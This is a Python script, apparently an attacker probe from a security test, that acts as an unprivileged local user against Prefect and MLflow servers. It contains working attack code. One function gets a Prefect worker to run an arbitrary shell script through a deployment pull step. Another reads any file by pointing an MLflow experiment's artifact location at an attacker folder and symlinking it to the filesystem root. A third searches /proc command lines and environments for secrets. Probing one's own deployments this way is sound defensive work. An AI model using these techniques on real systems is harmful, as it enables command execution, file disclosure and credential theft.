"""What a stranger on the machine tries: `python attacker.py STEP WORDS..`, with no package at all.

It prints what it got, as JSON; run it as another user than the servers'.
"""

import json
import sys
import urllib.error
import urllib.request
from pathlib import Path


def ask(address, *, body=None, headers=None, method=None):
    """Return the status of an answer and what it holds."""
    content = None if body is None else json.dumps(body).encode()
    said = {"Content-Type": "application/json", **(headers or {})}
    request = urllib.request.Request(address, content, said, method=method)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, answer.read(), dict(answer.headers)
    except urllib.error.HTTPError as error:
        with error:
            return error.code, error.read(), dict(error.headers)


def command(api, script, *, headers=None):
    """Have a worker run a command before a flow that need not exist; return the statuses."""
    statuses = []

    def post(path, body):
        status, content, _ = ask(f"{api}{path}", body=body, headers=headers)
        statuses.append(status)
        return json.loads(content).get("id", "0" * 8 + "-0000-4000-8000-" + "0" * 12)

    flow = post("/flows/", {"name": "stranger"})
    step = {"prefect.deployments.steps.run_shell_script": {"script": script}}
    words = {"name": "stranger", "work_pool_name": "compute", "entrypoint": "a.py:a"}
    deployment = post("/deployments/", {**words, "flow_id": flow, "pull_steps": [step]})
    state = {"state": {"type": "SCHEDULED"}}
    post(f"/deployments/{deployment}/create_flow_run", state)
    return statuses


def place(address, folder, target, *, headers=None):
    """Have MLflow read a file by an experiment whose files lie in a folder of one's own.

    Returns the statuses of making it, and of reading; 0 for what was never asked.
    """
    api = f"{address}/api/2.0/mlflow"
    made = {"name": "elsewhere", "artifact_location": folder}
    status, content, _ = ask(f"{api}/experiments/create", body=made, headers=headers)
    if status != 200:
        return [status, 0]
    begin = {"experiment_id": json.loads(content)["experiment_id"], "start_time": 1}
    _, content, _ = ask(f"{api}/runs/create", body=begin, headers=headers)
    run = json.loads(content)["run"]["info"]["run_id"]
    Path(folder, run).mkdir()
    Path(folder, run, "artifacts").symlink_to("/")
    read = f"{address}/get-artifact?run_uuid={run}&path={target.lstrip('/')}"
    return [status, ask(read, headers=headers)[0]]


def spy(secret, folder):
    """Return where a secret can be seen: in files, arguments and environments of processes."""
    places = [path for path in Path(folder).rglob("*") if not path.is_dir()]
    places += Path("/proc").glob("[0-9]*/cmdline")
    places += Path("/proc").glob("[0-9]*/environ")
    return [str(path) for path in places if secret in _content(path) and not _own(path)]


def _own(path):
    return path.match("/proc/*/cmdline") and b"attacker.py" in _content(path).encode()


def _content(path):
    try:
        return path.read_bytes().decode(errors="replace")
    except OSError:
        return ""


if __name__ == "__main__":
    step, *words = sys.argv[1:]
    if step == "spy":
        words[0] = sys.stdin.read()
    print(json.dumps({"command": command, "place": place, "spy": spy}[step](*words)))  # noqa: T201
